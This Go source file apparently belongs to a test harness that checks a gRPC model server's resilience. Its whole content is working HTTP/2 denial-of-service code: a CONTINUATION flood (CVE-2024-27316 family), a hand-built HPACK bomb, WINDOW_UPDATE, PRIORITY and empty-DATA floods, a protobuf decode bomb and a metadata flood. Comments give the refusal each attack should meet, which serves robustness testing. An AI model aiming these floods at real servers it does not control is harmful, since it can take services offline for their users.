package main

import (
	"bytes"
	"context"
	"strconv"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/encoding/protowire"

	"github.com/supervisor-dev/supervisor/internal/hostile"
)

// The HTTP/2 frame attacks the gRPC rows of grpcattacks.go leave out:
// header blocks that never end or decode to far more than they weigh,
// floods of frames gRPC must parse but that carry nothing (WINDOW_UPDATE,
// PRIORITY, empty DATA), and a ModelInfer message whose packed typed
// contents decode to eight times its size.

// continuationFlood opens a stream with a HEADERS frame that does not end
// its header block, then sends CONTINUATION frames of 16 KiB of literal
// headers, up to 64 MiB (CVE-2024-27316's family): the server must stop
// at max_header_bytes and close the connection, not keep reading.
func continuationFlood(ctx context.Context, t target, s *session, rec *answers) {
	block := literalHeaders(16 << 10)
	err := s.Framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndHeaders: false})
	for i := 0; err == nil && i < 4096 && ctx.Err() == nil; i++ {
		err = s.Framer.WriteContinuation(1, false, block)
	}
	if err != nil {
		rec.add(lost(ctx, err))
		return
	}
	rec.add(s.awaitGoAway(ctx))
}

// literalHeaders is about n bytes of HPACK literal fields (not indexed),
// each a distinct name of 1 KiB of value.
func literalHeaders(n int) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for i := 0; b.Len() < n-1100; i++ {
		_ = e.WriteField(hpack.HeaderField{Name: "x-pad-" + string(rune('a'+i%26)), Value: string(bytes.Repeat([]byte{'v'}, 1024)), Sensitive: true})
	}
	return b.Bytes()
}

// hpackBomb opens ModelInfer streams whose one HEADERS frame (16 KiB)
// adds a 4 KiB header to the HPACK dynamic table, then names it by its
// index (one byte) about 16000 times: 64 MiB of header list from 16 KiB
// on the wire. The server must refuse it at max_header_bytes without
// building the list, and keep serving.
func hpackBomb(ctx context.Context, t target, s *session, rec *answers) {
	for ctx.Err() == nil && burst(ctx, t, s, rec, 16, func(int) error {
		id, err := s.Open(t.grpcAddr, inferMethod, "x-api-key", apiKey)
		if err != nil {
			return err
		}
		// A second header block on the open stream: trailers by position,
		// which is what a HEADERS frame after the first is.
		return s.Framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: bombBlock, EndHeaders: true, EndStream: true})
	}) {
	}
}

// bombBlock is hpackBomb's header block: a 4000-byte literal with
// incremental indexing (it becomes dynamic table entry 62), then 16000
// indexed references to it.
var bombBlock = func() []byte {
	var b bytes.Buffer
	b.WriteByte(0x40) // literal with incremental indexing, new name
	e := hpack.AppendHuffmanString(nil, "x-bomb")
	b.Write(hpackLen(0x80, len(e)))
	b.Write(e)
	v := bytes.Repeat([]byte{'b'}, 4000)
	b.Write(hpackLen(0, len(v)))
	b.Write(v)
	b.Write(bytes.Repeat([]byte{0x80 | 62}, 16000-b.Len()))
	return b.Bytes()
}()

// hpackLen is HPACK's 7-bit-prefix integer n with the flag bits h.
func hpackLen(h byte, n int) []byte {
	if n < 127 {
		return []byte{h | byte(n)}
	}
	out := []byte{h | 127}
	for n -= 127; n >= 128; n >>= 7 {
		out = append(out, byte(n%128)|0x80)
	}
	return append(out, byte(n))
}

// windowUpdateFlood sends connection WINDOW_UPDATEs of 1 byte, 1000 a
// burst, each of which gRPC must parse and apply.
func windowUpdateFlood(ctx context.Context, t target, s *session, rec *answers) {
	for ctx.Err() == nil && burst(ctx, t, s, rec, 1000, func(int) error {
		return s.Framer.WriteWindowUpdate(0, 1)
	}) {
	}
}

// priorityFlood sends PRIORITY frames for idle streams, 1000 a burst:
// RFC 9113 deprecates them, and a server that kept a priority tree
// would grow it with each.
func priorityFlood(ctx context.Context, t target, s *session, rec *answers) {
	for ctx.Err() == nil && burst(ctx, t, s, rec, 1000, func(i int) error {
		return s.Framer.WritePriority(1<<31-1-2*uint32(i%1000), http2.PriorityParam{StreamDep: 1<<31 - 1, Weight: 255})
	}) {
	}
}

// emptyDataFlood opens a ModelInfer stream and sends it empty DATA
// frames, 1000 a burst: no message ever comes, only frames to parse.
func emptyDataFlood(ctx context.Context, t target, s *session, rec *answers) {
	id, err := s.Open(t.grpcAddr, inferMethod, "x-api-key", apiKey)
	if err != nil {
		rec.add(lost(ctx, err))
		return
	}
	for ctx.Err() == nil && burst(ctx, t, s, rec, 1000, func(int) error {
		return s.Framer.WriteData(id, false, nil)
	}) {
	}
}

// decodeBomb sends ModelInfer messages of max_body_bytes/8 + 1 MiB
// whose one INT64 input has packed int64_contents of zeros: one byte
// each on the wire, eight decoded and eight again packed into the HTTP
// body, so each message would cost the master 16 times its size,
// uncharged, before the body it becomes is refused as over
// max_body_bytes. It does not wait for the stream's window: a server
// that resets the stream (FLOW_CONTROL_ERROR) has not decoded it.
func decodeBomb(ctx context.Context, t target, s *session, rec *answers) {
	frame := hostile.Message(int64Zeros(int(t.maxBody/8 + 1<<20)))
	for ctx.Err() == nil {
		id, err := s.Open(t.grpcAddr, inferMethod, "x-api-key", apiKey)
		for k := 0; err == nil && k < len(frame); k += 16 << 10 {
			err = s.Framer.WriteData(id, k+16<<10 >= len(frame), frame[k:min(k+16<<10, len(frame))])
		}
		if err != nil || !s.waitEnd(ctx, id, rec, nil) {
			rec.add(lost(ctx, err))
			return
		}
	}
}

// metadataFlood is streamFlood with 14 KiB of metadata on every stream,
// just under limits.max_header_bytes (16 KiB) as HTTP/2 counts it (32
// bytes a field more than its name and value): 370 keys of one byte each,
// which cost the master a string pair and an entry in the stream's
// metadata map apiece, for as long as the stream waits for its message
// (body_timeout): 24 x 136 streams hold 45 MiB of header list.
func metadataFlood(ctx context.Context, t target, s *session, rec *answers) {
	floodStreams(ctx, t, s, rec, manyKeys...)
}

var manyKeys = func() []string {
	var md []string
	for i := range 370 {
		md = append(md, "x-k"+strconv.Itoa(i), "v")
	}
	return md
}()

// int64Zeros is a ModelInferRequest (written field by field, so the
// attacker does not hold the decoded form) for the MLP with one INT64
// input of about n zeros in int64_contents.
func int64Zeros(n int) []byte {
	contents := protowire.AppendTag(nil, 3, protowire.BytesType) // int64_contents, packed
	contents = protowire.AppendBytes(contents, make([]byte, n))
	in := protowire.AppendTag(nil, 1, protowire.BytesType)
	in = protowire.AppendString(in, "x")
	in = protowire.AppendTag(in, 2, protowire.BytesType)
	in = protowire.AppendString(in, "INT64")
	in = protowire.AppendTag(in, 5, protowire.BytesType)
	in = protowire.AppendBytes(in, contents)
	m := protowire.AppendTag(nil, 1, protowire.BytesType)
	m = protowire.AppendString(m, "mlp")
	m = protowire.AppendTag(m, 5, protowire.BytesType)
	return protowire.AppendBytes(m, in)
}
